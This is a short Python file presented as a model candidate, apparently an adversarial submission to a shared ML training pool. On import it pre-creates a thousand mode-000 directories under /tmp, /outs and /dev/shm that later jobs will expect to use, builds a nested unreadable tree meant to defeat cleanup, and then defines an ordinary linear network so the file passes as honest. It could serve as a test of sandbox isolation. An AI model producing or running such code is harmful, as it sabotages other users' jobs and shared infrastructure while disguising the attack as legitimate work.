"""Warm-pool poisoning: claims the names later jobs' directories could get, with mode 000.

Every name the warm worker once gave a job's scratch and out dir (/tmp/job-<n>, /outs/<n>), and
the same in /dev/shm and /dev/mqueue, for the next thousand jobs, as directories nobody but their
owner can enter or empty. Then trains like an honest candidate.
"""

import os

import torch.nn as nn

for place, pattern in (("/tmp", "job-{}"), ("/outs", "{}"), ("/dev/shm", "{}")):
    for n in range(1000):
        try:
            os.mkdir(os.path.join(place, pattern.format(n)), 0)
        except OSError:
            pass
# a mode-000 directory with a mode-000 directory inside, to defeat a cleanup that walks first
try:
    os.makedirs("/tmp/nest/deeper/deepest")
    for path in ("/tmp/nest/deeper/deepest", "/tmp/nest/deeper", "/tmp/nest"):
        os.chmod(path, 0)
except OSError:
    pass


class Net(nn.Module):
    def __init__(self, num_classes=10):
        super().__init__()
        self.fc = nn.Linear(28 * 28, num_classes)

    def forward(self, x):
        return self.fc(x.flatten(1))
